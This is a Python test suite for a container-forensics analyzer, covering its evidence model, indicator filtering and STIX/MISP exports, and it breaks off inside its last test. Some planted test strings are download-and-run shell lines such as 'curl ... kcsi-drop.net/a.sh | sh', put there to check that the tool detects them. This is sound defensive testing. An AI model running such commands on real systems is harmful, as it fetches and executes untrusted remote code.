"""kcsi analyze's evidence model, indicators and exports (issue 13, issue 16):
structured evidence (file offsets as numbers, connections with the keys of
`kcsi net --json`), IOC provenance as an object, no empty evidence items, the
merge reading old and new detonation layouts.  Every archive is a fixture or
built here from one; time is bounded by subprocess timeouts, never measured."""
import calendar
import hashlib
import io
import json
import os
import re
import shutil
import subprocess
import tarfile
import time

import kt
from kt import eq, fixture
from test_triage import _detonation
import test_hostile_reader as hr


def report(name, *extra):
    return kt.jrun('analyze', '--format', 'json', *extra, fixture(name))


def findings(r, fid):
    return [f for f in r['findings'] if f['id'] == fid]


# ---------------------------------------------------------------- structured evidence

def test_evidence_connection_has_the_keys_and_values_of_net():
    """A connection was one string, "TCP 127.0.0.1:38898 -> 127.6.6.6:6667
    ESTABLISHED", that machines had to parse.  It is proto, src, sport, dst,
    dport and state as `kcsi net --json` names them (numbers as numbers), and
    the text is kept beside it."""
    r = report('perlbot')
    net = kt.jrun('net', '--json', fixture('perlbot'))['sockets']
    irc = findings(r, 'KCSI-NET-IRC-001')
    assert irc, [f['id'] for f in r['findings']]
    ev = [e for f in irc for e in f['evidence'] if 'dport' in e]
    assert ev, irc
    keys = ('proto', 'src', 'sport', 'dst', 'dport', 'state')
    rows = [{k: s[k] for k in keys} for s in net]
    for e in ev:
        assert isinstance(e['sport'], int) and isinstance(e['dport'], int), e
        assert {k: e[k] for k in keys} in rows, (e, rows)
        eq(e['connection'], '%s %s:%d -> %s:%d %s' % tuple(e[k] for k in keys), 'the text form')
    shell = findings(report('revshell'), 'KCSI-SHELL-001')
    eq((shell[0]['evidence'][0]['dst'], shell[0]['evidence'][0]['dport']), ('127.6.6.7', 4444), 'reverse shell peer')


def test_file_offset_is_a_number():
    """A YARA match in a file gave `"area": "offset 908"`; the offset is a
    number of its own now (and area is only ever a memory area), and it is
    where the matched bytes are in the file."""
    r = report('perlbot')
    ev = [e for f in r['findings'] if f['id'].startswith('KCSI-YARA-') for e in f['evidence']
          if e.get('path') == '/tmp/perlbot.pl' and 'excerpt' in e]
    assert ev, 'YARA matches in /tmp/perlbot.pl'
    out = os.path.join(kt.tmpdir(), 'ioc-recover-perlbot')
    if not os.path.isdir(out):
        kt.run('recover', '--out', out, fixture('perlbot'))
    found = [os.path.join(d, f) for d, _, fs in os.walk(out) for f in fs if f.endswith('perlbot.pl')]
    assert found, 'recover wrote perlbot.pl'
    data = open(found[0], 'rb').read()
    for e in ev:
        assert isinstance(e.get('offset'), int), e
        assert not e.get('area', '').startswith('offset'), e
        matched = e['excerpt'].split(': ', 1)[1].encode()
        eq(data[e['offset']:e['offset'] + len(matched)], matched, 'the bytes at the offset')


def test_no_empty_evidence_items():
    """Some evidence items held nothing a reader could use and printed as
    blank lines (the host-network finding: only a command, which the text
    report does not show).  No item is only its kind, and no evidence line of
    the text report is blank."""
    for name in ('perlbot', 'revshell', 'memfd', 'counter'):
        r = report(name)
        for f in r['findings']:
            for e in f['evidence']:
                assert set(e) - {'kind'}, (name, f['id'], e)
        _, text, _ = kt.run('analyze', fixture(name))
        lines = text.decode().splitlines()
        for i, line in enumerate(lines):
            if line.startswith(('low ', 'medium ', 'high ', 'critical ')):
                nxt = lines[i + 1] if i + 1 < len(lines) else ''
                assert not (nxt.startswith(' ') and not nxt.strip()), (name, line)


# ---------------------------------------------------------------- IOC provenance

def test_ioc_provenance_is_an_object():
    """An IOC's source was free text ("memory pid 15 0x556a... (heap)").  It
    is an object: a connected peer names its pid and fd; a memory IOC its pid,
    its own address (where memgrep finds the value) and the area."""
    r = report('perlbot')
    by = {(i['type'], i['value']): i for i in r['iocs']}
    peer = by[('ipv4', '127.6.6.6')]['provenance']
    eq((peer['kind'], peer['pid'], peer['fd']), ('connection', 15, 5), 'the connected peer')
    mem = [i for i in r['iocs'] if i.get('provenance', {}).get('kind') == 'memory']
    assert mem, r['iocs']
    for i in mem:
        p = i['provenance']
        assert isinstance(p['pid'], int) and p['address'].startswith('0x') and p['area'], i
        assert i['source'] == 'memory pid %d %s (%s)' % (p['pid'], p['address'], p['area']), i
    url = by[('url', 'http://198.51.100.23/x.sh')]['provenance']
    hits = kt.jrun('memgrep', '--json', '--pid', str(url['pid']), fixture('perlbot'), 'http://198.51.100.23/x.sh')
    assert url['address'] in {h['address'] for h in hits}, (url, hits)
    sha = [i for i in report('memfd')['iocs'] if i['type'] == 'sha256']
    eq([(i['provenance']['kind'], i['provenance']['origin'], i['provenance']['path']) for i in sha],
       [('file', 'memfd', '/memfd:kdevtmpfsi')], 'a program file')


# ---------------------------------------------------------------- the merge reads both layouts

def test_merge_reads_old_and_new_detonation_layouts():
    """The merge read a detonation's connection and IOC source as text only;
    schema 2 writes the connection's parts, offsets and provenance objects.
    Both layouts are read: the old text stays, the new parts come through."""
    old = {'id': 'KCSI-DYN-OLD-001', 'severity': 'low', 'title': 'old', 'explanation': 'e', 'mitre': ['T1071'],
           'evidence': [{'kind': 'socket', 'pid': -1, 'fd': -1, 'connection': 'TCP 10.0.0.2:4000 -> 1.2.3.4:80 (irc)'}]}
    new = {'id': 'KCSI-DYN-NEW-001', 'severity': 'low', 'title': 'new', 'explanation': 'e', 'mitre': ['T1071'],
           'evidence': [{'kind': 'socket', 'pid': 7, 'fd': 3, 'proto': 'TCP', 'src': '10.0.0.2', 'sport': 4000,
                         'dst': '1.2.3.5', 'dport': 6667, 'state': 'ESTABLISHED'},
                        {'kind': 'file', 'pid': -1, 'fd': -1, 'path': '/tmp/x', 'offset': 77},
                        {'kind': 'socket', 'pid': -1, 'fd': -1, 'sport': 'bad', 'offset': -4}]}
    iocs = [{'type': 'domain', 'value': 'old.example.net', 'source': 'detonation: DNS query', 'count': 1},
            {'type': 'ipv4', 'value': '1.2.3.5', 'source': 'x', 'count': 2,
             'provenance': {'kind': 'detonation', 'pid': 7, 'detail': 'detonation: TCP connection tried'}}]
    d = _detonation('ioc-layouts', [old, new], iocs)
    r = kt.jrun('analyze', '--detonation', d, '--format', 'json', fixture('counter'))
    o = findings(r, 'KCSI-DYN-OLD-001')[0]['evidence'][0]
    eq(o['connection'], 'TCP 10.0.0.2:4000 -> 1.2.3.4:80 (irc)', 'old text kept')
    assert 'dport' not in o, o
    n = findings(r, 'KCSI-DYN-NEW-001')[0]['evidence']
    eq({k: n[0][k] for k in ('pid', 'fd', 'proto', 'src', 'sport', 'dst', 'dport', 'state', 'connection')},
       {'pid': 7, 'fd': 3, 'proto': 'TCP', 'src': '10.0.0.2', 'sport': 4000, 'dst': '1.2.3.5', 'dport': 6667,
        'state': 'ESTABLISHED', 'connection': 'TCP 10.0.0.2:4000 -> 1.2.3.5:6667 ESTABLISHED'}, 'new parts')
    eq((n[1]['path'], n[1]['offset']), ('/tmp/x', 77), 'the offset')
    eq(set(n[2]) - {'command'}, {'kind'}, 'bad numbers are not read')
    by = {i['value']: i for i in r['iocs']}
    eq((by['old.example.net']['provenance']['kind'], by['old.example.net']['source']),
       ('detonation', 'detonation: DNS query'), 'old source text')
    eq((by['1.2.3.5']['provenance']['pid'], by['1.2.3.5']['provenance']['detail']),
       (7, 'detonation: TCP connection tried'), 'new provenance')


# ---------------------------------------------------------------- IOC quality

def _counter_with(name, pages=None, files=()):
    """The counter fixture with bytes replaced in its memory pages
    (pages: [(old, new)] of equal length, every occurrence) and files added
    to its rootfs diff (files: [(path, bytes)])."""
    ms = hr.members('counter')
    for member, (ti, data) in list(ms.items()):
        if data is None or not member.startswith('checkpoint/pages-'):
            continue
        for old, new in pages or ():
            assert len(old) == len(new), (old, new)
            data = data.replace(old, new)
        hr.put(ms, member, data)
    if files:
        buf = io.BytesIO()
        with tarfile.open(fileobj=io.BytesIO(ms['rootfs-diff.tar'][1])) as old, \
                tarfile.open(fileobj=buf, mode='w', format=tarfile.GNU_FORMAT) as new:
            for ti in old.getmembers():
                new.addfile(ti, old.extractfile(ti) if ti.isfile() else None)
            for path, data in files:
                ti = tarfile.TarInfo(path.lstrip('/'))
                ti.size, ti.mode, ti.mtime = len(data), 0o644, 1700000000
                new.addfile(ti, io.BytesIO(data))
        hr.put(ms, 'rootfs-diff.tar', buf.getvalue())
    return hr.write_tar(ms, hr.tmp('ioc-%s.tar' % name))


def _analyze(path, *extra):
    return kt.jrun('analyze', '--format', 'json', '--no-builtin-rules', *extra, path)


def test_counter_exports_no_indicators():
    """The clean counter fixture exported glibc.malloc.top (from the glibc
    tunable glibc.malloc.top_pad, in ld.so's own pages) as a domain, IDS-ready
    in MISP and a STIX indicator.  It exports no indicator at all."""
    r = report('counter')
    eq(r['iocs'], [], 'IOCs of the clean counter')
    misp = kt.jrun('analyze', '--format', 'misp', fixture('counter'))['Event']
    eq([a for a in misp['Attribute'] if a['to_ids']], [], 'MISP attributes for IDS')
    stix = kt.jrun('analyze', '--format', 'stix', fixture('counter'))
    eq([o for o in stix['objects'] if o['type'] == 'indicator'], [], 'STIX indicators')


IMAGE_KEY = b'glibc.malloc.top_pad'  # in ld.so's relocated read-only page of both processes
PLANTED = b'c2.kcsi-img.com'


def test_image_strings_are_not_indicators():
    """A string in a file-backed mapping of a file of the image is the
    image's own, not an indicator (ld.so's tunables, python's license URLs
    were exported from every archive).  The same bytes in a mapping of a file
    the container changed (rootfs diff), or also in the heap, are exported,
    with the provenance of that place."""
    planted = PLANTED + b'\0' * (len(IMAGE_KEY) - len(PLANTED))
    only_image = _counter_with('image-only', [(IMAGE_KEY, planted)])
    hits = kt.jrun('memgrep', '--json', only_image, PLANTED.decode())
    assert hits and all(h['area'].endswith('/ld-linux-x86-64.so.2') for h in hits), hits
    r = _analyze(only_image)
    eq([i['value'] for i in r['iocs']], [], 'only in the image\'s mapped ld.so')
    # ld.so changed in the container: its pages are no longer the image's
    changed = _counter_with('image-changed', [(IMAGE_KEY, planted)],
                            [('/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2', b'\x7fELF changed')])
    r = _analyze(changed)
    dom = [i for i in r['iocs'] if i['value'] == PLANTED.decode()]
    assert dom, r['iocs']
    eq((dom[0]['provenance']['kind'], dom[0]['provenance']['area']),
       ('memory', '/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2'), 'provenance: the changed file\'s mapping')
    # the same value in the heap too: exported, first seen there
    both = _counter_with('image-and-heap', [(IMAGE_KEY, planted), (b'RANDOM_1432_KEY', PLANTED)])
    r = _analyze(both)
    dom = [i for i in r['iocs'] if i['value'] == PLANTED.decode()]
    assert dom and dom[0]['provenance']['area'] in ('heap', 'anon', 'stack'), dom


NOTES = b'\n'.join([
    b'resolver query A.MFRGGZDF.tun-zone.top answered',     # base32 labels, upper case, one-character label
    b'relay x.kcsi-c2.net ready',                           # one-character first label
    b'GLIBC_TUNABLES=glibc.malloc.top_pad=1',               # a configuration key
    b'print(sys.int_info)',                                 # code
    b'fmt = "http://203.0.113.%d/beacon"',                  # a printf format
    b'color = Color.RED; name = obj.name; os.open',          # code
    b'run ./setup.py and deploy.sh',                         # file names
    b'WantedBy=multi-user.target',                          # a systemd unit
    b'see https://click. and http://www and evil.notatld',  # cut-off and unknown names
    b'contact ops@kcsi-c2.net or ops@localhost',
    b'"universe_domain": "googleapis.com", "suffix": "co.uk"',  # a name of the list's private part; a suffix
])


def test_names_by_the_public_suffix_list():
    """Names were found in lower case only, with a first label of two
    characters or more and a fixed list of top-level domains: a tunnel's
    base32 query names and one-character labels were lost, while a printf
    format (203.0.113.%d) and a configuration key (glibc.malloc.top from
    glibc.malloc.top_pad) were domains.  Names are checked against the Public
    Suffix List in any case; formats, code and file names are not names."""
    path = _counter_with('names', files=[('/srv/notes.txt', NOTES)])
    _listed(_analyze(path),
            [('domain', 'a.mfrggzdf.tun-zone.top'), ('domain', 'x.kcsi-c2.net'), ('email', 'ops@kcsi-c2.net'),
             ('domain', 'googleapis.com')],
            ('glibc.malloc.top', 'sys.int', '203.0.113.%d', 'color.red', 'obj.name', 'os.open', 'setup.py',
             'deploy.sh', 'click.', 'http://www', 'notatld', 'localhost', 'co.uk', 'multi-user'))


def _listed(r, want, never):
    """Every (type, value) of want is an IOC of report r; no IOC's value
    holds any text of never."""
    got = {(i['type'], i['value']) for i in r['iocs']}
    for w in want:
        assert w in got, (w, sorted(got))
    values = ' '.join(v for _, v in got)
    for bad in never:
        assert bad not in values, (bad, sorted(got))


REFERENCE_NOTES = b'\n'.join([
    b'examples (RFC 5737): 192.0.2.1, 198.51.100.7 and 203.0.113.9; 2001:db8:0:0:0:0:0:1',
    b'route 10.20.0.0/16 via 10.20.0.1; allow 172.16.5.9/32; deny fd00:0:0:0:0:0:0:0/8',
    b'docs https://docs.python.org/3/library/ssl.html and https://www.rfc-editor.org/rfc/rfc7230',
    b'report bugs to bug-tar@gnu.org; see https://en.wikipedia.org/wiki/Tar_(computing)',
    b'sample https://example.com/x and ops@example.org',
    b'mirror https://payload.kcsi-drop.net/stage2 and https://raw.githubusercontent.com/kcsi/x/main/README',
    b'vault https://vault.corp.internal/v1/secret and 192.0.0.8 in text',
    b'wiki https://kcsi-wiki.net/Tar_(computing), (see https://kcsi-wiki.net/x)',
    b'oids: X25519 1.3.101.110, commonName 2.5.4.3, subjectAltName 2.5.29.17; peer 2.56.4.3',
])


def test_documentation_and_reference_text_is_not_listed():
    """A Python process listed the RFC 5737 examples of its ipaddress module
    (192.0.2.1 ...), the IANA and Wikipedia links of its docstrings and the
    networks of its examples (192.0.2.0 from 192.0.2.0/24): a third of all
    IOCs on the lab's scenes.  In text, addresses no peer has
    (documentation, reserved), documentation names, network prefixes and the
    names of reference sites are not listed; hosts (a /32 too), a network's
    own names (.internal) and code hosts are; object identifiers that look
    like addresses (X25519's 1.3.101.110) are not.  A URL keeps a closing bracket
    that closes one it opened."""
    r = _analyze(_counter_with('reference', files=[('/srv/notes.txt', REFERENCE_NOTES)]))
    eq([f['id'] for f in r['findings'] if f['severity'] != 'low'], [], 'no finding points at the notes')
    _listed(r,
            [('ipv4', '10.20.0.1'), ('ipv4', '172.16.5.9'), ('domain', 'payload.kcsi-drop.net'),
             ('url', 'https://payload.kcsi-drop.net/stage2'), ('domain', 'raw.githubusercontent.com'),
             ('url', 'https://raw.githubusercontent.com/kcsi/x/main/README'),
             ('url', 'https://vault.corp.internal/v1/secret'), ('url', 'https://kcsi-wiki.net/Tar_(computing)'),
             ('url', 'https://kcsi-wiki.net/x'), ('ipv4', '2.56.4.3')],
            ('192.0.2.1', '198.51.100.7', '203.0.113.9', '2001:db8', '10.20.0.0', 'fd00:', 'python.org',
             'rfc-editor.org', 'gnu.org', 'wikipedia.org', 'example.com', 'example.org', '192.0.0.8', '1.3.101.110',
             '2.5.4.3', '2.5.29.17'))
    # a finding about the file (a script's URL in it) names that URL, not the rest of the file
    flagged = REFERENCE_NOTES + b'\nthen curl -s https://payload.kcsi-drop.net/s.sh | sh\n'
    r = _analyze(_counter_with('reference-flagged', files=[('/srv/notes.txt', flagged)]))
    assert any(f['severity'] != 'low' and any(e.get('path') == '/srv/notes.txt' for e in f['evidence'])
               for f in r['findings']), r['findings']
    _listed(r, [('url', 'https://payload.kcsi-drop.net/s.sh')], ('python.org', 'gnu.org', '192.0.2.1', 'example.com'))


def test_names_are_not_cut_at_piece_boundaries():
    """A long line was scanned in pieces of 4096 bytes: smtp.kcsi-mail.net
    across the cut gave s and mtp.kcsi-mail.net.  Pieces end between words."""
    for shift in range(0, 13, 3):
        line = b'x' * 10 + b' ' + b'w' * (4096 - 11 - 5 - shift) + b' smtp.kcsi-mail.net ' + b'y' * 200
        assert line.index(b'smtp') < 4096 < line.index(b'smtp') + 18, shift
        r = _analyze(_counter_with('cut-%d' % shift, files=[('/var/log/long.log', line)]))
        names = sorted(i['value'] for i in r['iocs'] if i['type'] == 'domain' and 'kcsi-mail' in i['value'])
        eq(names, ['smtp.kcsi-mail.net'], 'names (shift %d)' % shift)


def test_repeated_emails_of_a_log_are_aggregated():
    """A log with thousands of e-mail addresses exported each one as an IOC
    (19,000 in a mail log).  More than a few of one domain in one place are
    one aggregate (*@domain) with the sightings and the distinct addresses
    counted; a few of another domain stay as they are."""
    lines = [b'delivered to user%d@mail-%d.kcsi-shop.com' % (i, i % 3) for i in range(600)]
    lines += [b'bounce from admin%d@kcsi-partner.org' % i for i in range(3)]
    r = _analyze(_counter_with('maillog', files=[('/var/log/mailer.log', b'\n'.join(lines) + b'\n')]))
    mails = {i['value']: i for i in r['iocs'] if i['type'] == 'email'}
    for d in range(3):
        agg = mails.get('*@mail-%d.kcsi-shop.com' % d)
        assert agg, sorted(mails)
        eq((agg['distinct'], agg['count'], agg['to_ids']), (200, 200, False), 'the aggregate')
        eq(agg['provenance']['path'], '/var/log/mailer.log', 'its place')
    eq(sorted(v for v in mails if 'kcsi-partner' in v), ['admin%d@kcsi-partner.org' % i for i in range(3)], 'a few')
    eq(len(mails), 6, 'no address of the log one by one')


def _misp_ids(path, *extra):
    ev = kt.jrun('analyze', '--format', 'misp', *extra, path)['Event']
    return {a['value']: a['to_ids'] for a in ev['Attribute'] if a['category'] != 'Other'}


def _stix_indicated(path, *extra):
    b = kt.jrun('analyze', '--format', 'stix', *extra, path)
    return {o['name'].split(' ', 1)[1] for o in b['objects'] if o['type'] == 'indicator'}


def test_only_indicators_worth_blocking_are_ids():
    """Every public value was IDS-ready in MISP, and every IOC a STIX
    indicator of malicious activity, loopback peers included.  An indicator
    is worth blocking when a finding of medium severity or above points at it
    (the peer of its connection, its excerpt, its file) and its class means
    something on other networks; the rest are observables."""
    r = report('perlbot')
    ids = {i['value']: i['to_ids'] for i in r['iocs']}
    for v in ('127.6.6.6', '127.7.7.7', '198.51.100.23', 'http://198.51.100.23/x.sh', '#perlbot'):
        eq(ids[v], False, v)
    bot = [i for i in r['iocs'] if i['type'] == 'sha256' and i['provenance']['path'] == '/tmp/perlbot.pl']
    eq([i['to_ids'] for i in bot], [True], 'the dropped bot\'s hash')
    misp = _misp_ids(fixture('perlbot'))
    eq({v: misp[v] for v in ids if v in misp}, {v: ids[v] for v in ids if v in misp}, 'MISP to_ids as the report')
    eq(_stix_indicated(fixture('perlbot')), {v for v, x in ids.items() if x}, 'STIX indicators')
    # a merged detonation: a public peer a high finding names, one nothing names, a private one named
    conn = {'kind': 'socket', 'pid': 9, 'fd': 3, 'proto': 'TCP', 'src': '10.0.0.2', 'sport': 40000,
            'dst': '45.33.32.156', 'dport': 4444, 'state': 'ESTABLISHED'}
    f = {'id': 'KCSI-DYN-C2-001', 'severity': 'high', 'title': 'beacon', 'explanation': 'e', 'mitre': ['T1071'],
         'evidence': [conn, dict(conn, dst='10.1.2.3')]}
    iocs = [{'type': 'ipv4', 'value': v, 'source': 'detonation', 'count': 1}
            for v in ('45.33.32.156', '8.8.4.4', '10.1.2.3', '10.0.0.2')]
    d = _detonation('ioc-ids', [f], iocs)
    r = kt.jrun('analyze', '--detonation', d, '--format', 'json', fixture('counter'))
    got = {i['value']: i['to_ids'] for i in r['iocs']}
    eq(got, {'45.33.32.156': True, '8.8.4.4': False, '10.1.2.3': False, '10.0.0.2': False}, 'to_ids')
    eq({v: x for v, x in _misp_ids(fixture('counter'), '--detonation', d).items() if v in got}, got, 'MISP')
    eq(_stix_indicated(fixture('counter'), '--detonation', d), {'45.33.32.156'}, 'STIX indicators')


def test_image_page_text_a_finding_points_at_is_kept():
    """Text planted in a checkpointed page of /usr/bin/dash's mapping: a host
    name alone there is the image's own string and is not exported, but a
    download-and-run command there is a finding, and the URL it names stays
    an indicator (a page of an image file that holds what a rule found is
    not the file's)."""
    import test_memory
    _, runs = test_memory._planted('ioc-image-page', [])
    dash = [v for v in kt.jrun('maps', '--json', '--pid', '1', fixture('counter'))
            if v.get('path') == '/usr/bin/dash' and v['pages']]
    run = [r for r in runs if any(int(v['start'], 16) <= r[0] < int(v['end'], 16) for v in dash) and r[1] >= 4096][0]
    va = run[0] + 64
    d, _ = test_memory._planted('ioc-image-page', [(va, b'curl -fsSL http://kcsi-drop.net/a.sh | sh\x00'),
                                                   (va + 256, b'beacon update.kcsi-beacon.org every 60s\x00')])
    r = _analyze(d)
    assert [f for f in r['findings'] if f['id'] == 'KCSI-DL-001'], [f['id'] for f in r['findings']]
    vals = {i['value']: i for i in r['iocs']}
    assert 'http://kcsi-drop.net/a.sh' in vals and 'kcsi-drop.net' in vals, sorted(vals)
    eq(vals['kcsi-drop.net']['provenance']['area'], '/usr/bin/dash', 'where it was')
    assert 'update.kcsi-beacon.org' not in vals, sorted(vals)


# ---------------------------------------------------------------- exports

UUID = r'[0-9a-f]{8}-[0-9a-f]{4}-[1-5][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}'
STIX_TS = r'^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?Z$'
# STIX 2.1 required properties (spec section 4-6) of the types kcsi writes
SDO_REQUIRED = {'identity': ['name'], 'malware': ['name', 'is_family'], 'attack-pattern': ['name'],
                'note': ['content', 'object_refs'], 'report': ['name', 'published', 'object_refs'],
                'indicator': ['pattern', 'pattern_type', 'valid_from'], 'observed-data':
                ['first_observed', 'last_observed', 'number_observed', 'object_refs'],
                'relationship': ['relationship_type', 'source_ref', 'target_ref']}
SCO_REQUIRED = {'ipv4-addr': ['value'], 'ipv6-addr': ['value'], 'url': ['value'], 'domain-name': ['value'],
                'email-addr': ['value'], 'file': []}


def _refs(o):
    """every id an object refers to (*_ref, *_refs)"""
    out = []
    for k, v in o.items():
        if k.endswith('_ref'):
            out.append(v)
        elif k.endswith('_refs'):
            out += v
    return out


def check_stix(b):
    """Structural checks of a STIX 2.1 bundle (no validator in Debian): ids
    of the form type--UUID and unique, required and common properties,
    timestamps, custom properties named x_..., every reference resolves,
    relationships and sightings between the right kinds, the report holds
    every other object.  Returns the objects by id."""
    eq(b['type'], 'bundle', 'bundle')
    assert re.match(r'^bundle--' + UUID + '$', b['id']), b['id']
    objs = {}
    for o in b['objects']:
        assert re.match(r'^[a-z][a-z0-9-]+--' + UUID + '$', o['id']), o['id']
        eq(o['id'].split('--')[0], o['type'], 'id prefix')
        assert o['id'] not in objs, ('duplicate id', o['id'])
        objs[o['id']] = o
        eq(o['spec_version'], '2.1', 'spec_version')
        for k in o:
            assert re.match(r'^[a-z0-9_]{3,250}$', k) or k == 'id', k
        if o['type'] in SDO_REQUIRED:
            for k in ('created', 'modified'):
                assert re.match(STIX_TS, o[k]), (o['type'], k, o.get(k))
            for k in SDO_REQUIRED[o['type']]:
                assert k in o and o[k] not in (None, '', []), (o['type'], k)
        else:
            assert o['type'] in SCO_REQUIRED, o['type']
            for k in SCO_REQUIRED[o['type']]:
                assert o.get(k), (o['type'], k)
            assert 'created' not in o, o
        for er in o.get('external_references', []):
            assert er.get('source_name'), er
            if er['source_name'] == 'mitre-attack':
                assert re.match(r'^T\d{4}(\.\d{3})?$', er['external_id']), er
                tid = er['external_id'].replace('.', '/')
                eq(er['url'], 'https://attack.mitre.org/techniques/%s/' % tid, 'ATT&CK url')
        if o['type'] == 'indicator':
            eq(o['pattern_type'], 'stix', 'pattern_type')
            assert re.match(r"^\[[a-z0-9-]+:[a-z_.'A-Z0-9-]+ = '([^'\\]|\\.)*'\]$", o['pattern']), o['pattern']
            eq(o['indicator_types'], ['malicious-activity'], 'indicator types')
        if o['type'] == 'file':
            assert o.get('hashes', {}).get('SHA-256') or o.get('name'), o
    for o in objs.values():
        for ref in _refs(o):
            assert ref in objs, (o['id'], ref)
        if o['type'] == 'observed-data':
            assert all(objs[r]['type'] in SCO_REQUIRED for r in o['object_refs']), o
        if o['type'] == 'relationship' and o['relationship_type'] == 'uses':
            eq((objs[o['source_ref']]['type'], objs[o['target_ref']]['type']), ('malware', 'attack-pattern'), 'uses')
        if o['type'] == 'relationship' and o['relationship_type'] == 'indicates':
            eq(objs[o['source_ref']]['type'], 'indicator', 'indicates')
    reports = [o for o in objs.values() if o['type'] == 'report']
    eq(len(reports), 1, 'one report')
    eq(set(reports[0]['object_refs']), set(objs) - {reports[0]['id']}, 'the report holds every object')
    return objs


def test_stix_carries_every_finding():
    """The STIX bundle held IOCs only: no finding, no ATT&CK technique.  Every
    finding is a note (its id, severity, explanation, evidence) that refers
    to an attack-pattern per technique with external_references to
    mitre-attack; the bundle passes structural checks (ids, required
    properties, references), merged detonations included."""
    d = _detonation('ioc-stix', [{'id': 'KCSI-DYN-X-001', 'severity': 'high', 'title': 'x', 'explanation': 'e',
                                  'mitre': ['T1041'], 'evidence': [{'kind': 'socket', 'dst': '45.33.32.156'}]},
                                 {'severity': 'low', 'evidence': []}])
    for args in ([fixture('perlbot')], [fixture('revshell')], [fixture('memfd')], [fixture('counter')],
                 ['--detonation', d, fixture('counter')]):
        r = kt.jrun('analyze', '--format', 'json', *args)
        objs = check_stix(kt.jrun('analyze', '--format', 'stix', *args))
        notes = [o for o in objs.values() if o['type'] == 'note']
        eq(len(notes), len(r['findings']), 'a note per finding (%s)' % args[-1])
        patterns = {o['external_references'][0]['external_id']: o for o in objs.values()
                    if o['type'] == 'attack-pattern'}
        for f, n in zip(r['findings'], notes):
            assert n['abstract'].startswith('%s (%s): ' % (f['id'] or '?', f['severity'])), (f, n['abstract'])
            assert (f['explanation'] or f['title'] or '(no explanation)') in n['content'], n
            eq(n['labels'], [f['severity']], 'severity label')
            for t in f['mitre']:
                assert patterns[t]['id'] in n['object_refs'], (t, n)
                assert {'source_name': 'mitre-attack', 'external_id': t,
                        'url': patterns[t]['external_references'][0]['url']} in n['external_references'], n
        eq(set(patterns), {t for f in r['findings'] for t in f['mitre']}, 'an attack-pattern per technique')


def _attack_table():
    src = open(os.path.join(kt.ROOT, 'lib', 'triage', 'report.c')).read()
    return dict(re.findall(r'\{"(T\d{4}(?:\.\d{3})?)", "([^"]+)"\}', src))


def test_misp_uses_the_attack_galaxy():
    """MISP tags were mitre-attack:attack-pattern="T1036"; MISP's ATT&CK
    galaxy names its clusters "Name - Txxxx".  Every technique of the
    findings is a galaxy tag, and every technique kcsi's rules name (sources
    and YARA rules) has its ATT&CK name in kcsi's table."""
    table = _attack_table()
    named = set()
    for d, _, fs in os.walk(os.path.join(kt.ROOT, 'lib')):
        for f in fs:
            if f.endswith('.c'):
                for lit in re.findall(r'"((?:T\d{4}(?:\.\d{3})?[ ,]*)+)"', open(os.path.join(d, f)).read()):
                    named |= set(re.findall(r'T\d{4}(?:\.\d{3})?', lit))
    for f in os.listdir(os.path.join(kt.ROOT, 'rules')):
        if f.endswith(('.yar', '.yara')):
            for meta in re.findall(r'mitre\s*=\s*"([^"]*)"', open(os.path.join(kt.ROOT, 'rules', f)).read()):
                named |= set(re.findall(r'T\d{4}(?:\.\d{3})?', meta))
    assert named and not named - set(table), sorted(named - set(table))
    for name in ('perlbot', 'memfd'):
        r = report(name)
        tags = {t['name'] for t in kt.jrun('analyze', '--format', 'misp', fixture(name))['Event']['Tag']}
        want = {'misp-galaxy:mitre-attack-pattern="%s - %s"' % (table[t], t) for f in r['findings'] for t in f['mitre']}
        eq(tags, want, 'galaxy tags (%s)' % name)


def _stamp_expected(path):
    rules = os.path.join(kt.ROOT, 'rules')
    lines = ''
    for f in sorted(os.listdir(rules)):
        if f.endswith(('.yar', '.yara')):
            lines += '%s %s\n' % (hashlib.sha256(open(os.path.join(rules, f), 'rb').read()).hexdigest(), f)
    return {'archive': hashlib.sha256(open(path, 'rb').read()).hexdigest(),
            'version': kt.run('--version')[1].decode().split()[-1],
            'rules': open(os.path.join(rules, 'VERSION')).read().strip(),
            'rules_sha256': hashlib.sha256(lines.encode()).hexdigest()}


def test_every_report_says_what_made_it():
    """Reports did not say which archive (by hash), which kcsi, which rules or
    when.  JSON, HTML, STIX and MISP carry the archive's sha256, kcsi's
    version, the rule set (rules/VERSION and the sha256 of the rule files
    loaded) and the analysis time ($SOURCE_DATE_EPOCH, else now)."""
    path = fixture('perlbot')
    want = _stamp_expected(path)
    env = {'SOURCE_DATE_EPOCH': '1767225600', 'KCSI_RULES': os.path.join(kt.ROOT, 'rules')}
    when = '2026-01-01T00:00:00Z'
    j = json.loads(kt.run('analyze', '--format', 'json', path, env=env)[1])
    eq((j['archive_sha256'], j['kcsi_version'], j['ruleset']['version'], j['ruleset']['sha256'],
        j['analysis_time']), (want['archive'], want['version'], want['rules'], want['rules_sha256'], when), 'JSON')
    html = kt.run('analyze', '--format', 'html', path, env=env)[1].decode()
    for v in (want['archive'], 'kcsi ' + want['version'], want['rules'], want['rules_sha256'][:16], when):
        assert v in html, v
    b = json.loads(kt.run('analyze', '--format', 'stix', path, env=env)[1])
    rep = [o for o in b['objects'] if o['type'] == 'report'][0]
    eq((rep['x_kcsi_archive_sha256'], rep['x_kcsi_version'], rep['x_kcsi_ruleset_version'],
        rep['x_kcsi_ruleset_sha256'], rep['published']),
       (want['archive'], want['version'], want['rules'], want['rules_sha256'], when), 'STIX report')
    assert {'SHA-256': want['archive']} in [o.get('hashes') for o in b['objects'] if o['type'] == 'file'], 'archive'
    ev = json.loads(kt.run('analyze', '--format', 'misp', path, env=env)[1])['Event']
    vals = {a['value'] for a in ev['Attribute']}
    assert want['archive'] in vals and when in vals, sorted(vals)[:20]
    assert any(want['version'] in v and want['rules'] in v for v in vals), vals
    # without SOURCE_DATE_EPOCH: now
    before = time.time()
    j = json.loads(kt.run('analyze', '--format', 'json', path, env={'SOURCE_DATE_EPOCH': ''})[1])
    t = calendar.timegm(time.strptime(j['analysis_time'], '%Y-%m-%dT%H:%M:%SZ'))
    assert int(before) <= t <= time.time() + 1, (before, j['analysis_time'])


def test_html_opens_with_why():
    """The HTML report began with the container; it opens with why the
    verdict is what it is: the rule that applied and the findings that
    decided it (the critical ones, two highs, or all medium and above)."""
    for name, rule in (('revshell', 'a critical finding'), ('counter', 'no finding of medium severity')):
        r = report(name)
